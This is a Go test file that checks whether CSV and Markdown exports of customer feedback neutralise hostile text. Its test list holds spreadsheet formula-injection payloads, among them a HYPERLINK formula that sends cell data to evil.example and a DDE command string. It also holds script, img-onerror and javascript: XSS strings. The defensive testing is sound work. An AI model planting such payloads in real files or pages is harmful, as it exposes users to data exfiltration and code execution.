package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"feedbackpipe/store"
)

var at = time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)

func hostileBacklog(title, excerpt, id string) ([]store.StoryView, []store.OrphanView) {
	stories := []store.StoryView{{
		Key: "k1", Title: title, Description: "**Signature:** `sig`\n\n- " + excerpt + "\n", Signature: "sig", ProductArea: title,
		ConversationCount: 3, FirstSeen: at, LastSeen: at, ConversationIDs: []string{id, "c2", "c3"},
		Excerpts: []string{excerpt, "plain excerpt"},
	}}
	orphans := []store.OrphanView{{Key: "k2", Title: title, Signature: title, ProductArea: excerpt, FirstSeen: at, LastSeen: at,
		ConversationIDs: []string{id}}}
	return stories, orphans
}

var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)",
	"\t=1+1",
	"\r=1+1",
	"＝1+1",
	"# Heading\n## another\n<script>alert(1)</script>",
	"[click me](javascript:alert(1)) ![img](http://x/y.png) <img src=x onerror=alert(1)>",
	"> quoted\n\n---\n| a | b |\n|---|---|",
	"**bold** _em_ `code` ~~strike~~ &lt;b&gt; &amp;",
	"line one\nline two\r\nline three\u2028four",
	"1. numbered\n- bullet\n* star",
}

func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, h := range hostile {
		stories, orphans := hostileBacklog(h, h, h)
		var buf bytes.Buffer
		if err := CSV(&buf, stories, orphans); err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(&buf).ReadAll()
		if err != nil {
			t.Fatalf("%q: output does not re-parse: %v", h, err)
		}
		if len(rows) != 3 {
			t.Fatalf("%q: %d rows, want 3", h, len(rows))
		}
		for _, row := range rows {
			if len(row) != len(CSVHeader) {
				t.Errorf("%q: row of %d cells, want %d", h, len(row), len(CSVHeader))
			}
			for _, cell := range row {
				if Dangerous(cell) {
					t.Errorf("%q: cell %q starts with a formula character", h, cell)
				}
			}
		}
		if got, want := rows[1][2], strings.ReplaceAll(Cell(h), "\r\n", "\n"); got != want || (Dangerous(h) && got != "'"+h) {
			t.Errorf("title cell %q, want %q", got, Cell(h))
		}
	}
	if Cell("Export fails") != "Export fails" || Cell("3 users") != "3 users" {
		t.Error("harmless cells must be left alone")
	}
}

func TestMarkdownKeepsCustomerTextInert(t *testing.T) {
	for _, h := range hostile {
		stories, orphans := hostileBacklog(h, h, h)
		var buf bytes.Buffer
		if err := Markdown(&buf, stories, orphans); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		lines := strings.Split(out, "\n")
		var headings, quotes int
		for _, l := range lines {
			if strings.HasPrefix(l, "#") {
				headings++
			}
			if strings.HasPrefix(l, "> ") {
				quotes++
			}
			for _, bad := range []string{"<script", "<img", "](", "&lt;", "&amp;"} {
				if live(l, bad) {
					t.Errorf("%q: line %q holds live %q", h, l, bad)
				}
			}
		}
		if headings != 3 { // # Backlog, the story, ## Orphans
			t.Errorf("%q: %d headings, want 3:\n%s", h, headings, out)
		}
		if quotes != 2 {
			t.Errorf("%q: %d quote lines, want 2 (one per excerpt):\n%s", h, quotes, out)
		}
		want := "## " + Inline(h)
		if !strings.Contains(out, want+"\n") || strings.ContainsAny(Inline(h), "\n\r") {
			t.Errorf("%q: the title is not one escaped line %q:\n%s", h, want, out)
		}
	}
}

func TestInline(t *testing.T) {
	tests := []struct{ in, want string }{
		{"Export to CSV fails", "Export to CSV fails"},
		{"  two\n\nlines\t ", "two lines"},
		{"# [x](y) <b>", `\# \[x\]\(y\) \<b\>`},
		{"a\\b `c`", "a\\\\b \\`c\\`"},
		{"café ünïcode", "café ünïcode"},
	}
	for _, tt := range tests {
		if got := Inline(tt.in); got != tt.want {
			t.Errorf("Inline(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
	if got := Description("**Signature:** `a_b`\n\n# not a heading <b>[x](y)</b>\n- item | cell"); got !=
		"**Signature:** `a_b`\n\n\\# not a heading \\<b\\>\\[x\\](y)\\</b\\>\n- item \\| cell" {
		t.Errorf("Description = %q", got)
	}
}

// live reports whether s occurs in line without a backslash before it.
func live(line, s string) bool {
	for i := 0; ; {
		j := strings.Index(line[i:], s)
		if j < 0 {
			return false
		}
		if i+j == 0 || line[i+j-1] != '\\' {
			return true
		}
		i += j + 1
	}
}

// FuzzCSV: whatever the stored values, the CSV re-parses with encoding/csv into rows
// of len(CSVHeader) cells, none starting with a formula character.
func FuzzCSV(f *testing.F) {
	for _, h := range hostile {
		f.Add(h, h, h)
	}
	f.Add("", "", "")
	f.Add("a,b", "\"quoted\"", "x\ny")
	f.Fuzz(func(t *testing.T, title, excerpt, id string) {
		stories, orphans := hostileBacklog(title, excerpt, id)
		var buf bytes.Buffer
		if err := CSV(&buf, stories, orphans); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		r.FieldsPerRecord = len(CSVHeader)
		rows, err := r.ReadAll()
		if err != nil {
			t.Fatalf("output does not re-parse: %v", err)
		}
		if len(rows) != 3 {
			t.Fatalf("%d rows, want 3", len(rows))
		}
		for _, row := range rows {
			for _, cell := range row {
				if Dangerous(cell) {
					t.Fatalf("cell %q starts with a formula character", cell)
				}
			}
		}
	})
}

// FuzzMarkdown: a title stays on one line as its story's heading, and customer text
// adds no heading, quote line or live HTML.
func FuzzMarkdown(f *testing.F) {
	for _, h := range hostile {
		f.Add(h, h)
	}
	f.Add("", "")
	f.Fuzz(func(t *testing.T, title, excerpt string) {
		stories, orphans := hostileBacklog(title, excerpt, "c1")
		var buf bytes.Buffer
		if err := Markdown(&buf, stories, orphans); err != nil {
			t.Fatal(err)
		}
		out := buf.String()
		if !strings.Contains(out, "\n## "+Inline(title)+"\n\n3 conversations") {
			t.Fatalf("the title is not on its heading line:\n%s", out)
		}
		var headings, quotes int
		for _, l := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimLeft(l, " "), "#") {
				headings++
			}
			if strings.HasPrefix(strings.TrimLeft(l, " "), ">") {
				quotes++
			}
			if live(l, "<") {
				t.Fatalf("line %q holds a live <", l)
			}
		}
		if headings != 3 || quotes != 2 {
			t.Fatalf("%d headings and %d quote lines, want 3 and 2:\n%s", headings, quotes, out)
		}
	})
}
